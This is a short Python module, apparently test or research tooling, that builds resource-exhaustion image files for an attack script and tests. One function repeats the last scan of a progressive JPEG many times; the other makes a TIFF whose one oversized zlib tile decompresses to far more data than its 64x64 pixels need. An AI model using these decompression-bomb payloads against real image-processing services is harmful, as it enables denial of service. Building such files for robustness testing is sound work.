"""Image files that cost more to decode than their size says, for attack.py and the tests."""

import io
import re
import zlib

import numpy as np
from PIL import Image


def encoded(image: Image.Image, kind: str = "PNG", **options: object) -> bytes:
    """The file of an image."""
    file = io.BytesIO()
    image.save(file, kind, **options)
    return file.getvalue()


def progressive_jpeg(side: int, scans: int) -> bytes:
    """A grey image whose last scan is repeated: each scan visits every pixel."""
    file = encoded(Image.new("L", (side, side), 128), "JPEG", progressive=True)
    last = file[[match.start() for match in re.finditer(b"\xff\xda", file)][-1] : -2]
    return file[:-2] + scans * last + file[-2:]


def tile_bomb(side: int) -> bytes:
    """A TIFF of 64x64 pixels in one tile of side x side."""
    packer = zlib.compressobj(9)
    tile = b"".join(packer.compress(bytes(side)) for _ in range(side)) + packer.flush()
    entries = [(256, 4, 64), (257, 4, 64), (258, 3, 8), (259, 3, 8), (262, 3, 1), (277, 3, 1)]
    entries += [(322, 4, side), (323, 4, side), (324, 4, 8), (325, 4, len(tile))]
    fields = b"".join(
        np.array([tag, kind], "<u2").tobytes() + np.array([1, value], "<u4").tobytes() for tag, kind, value in entries
    )
    return b"II*\0" + np.array([8 + len(tile)], "<u4").tobytes() + tile + bytes([len(entries), 0]) + fields + bytes(4)
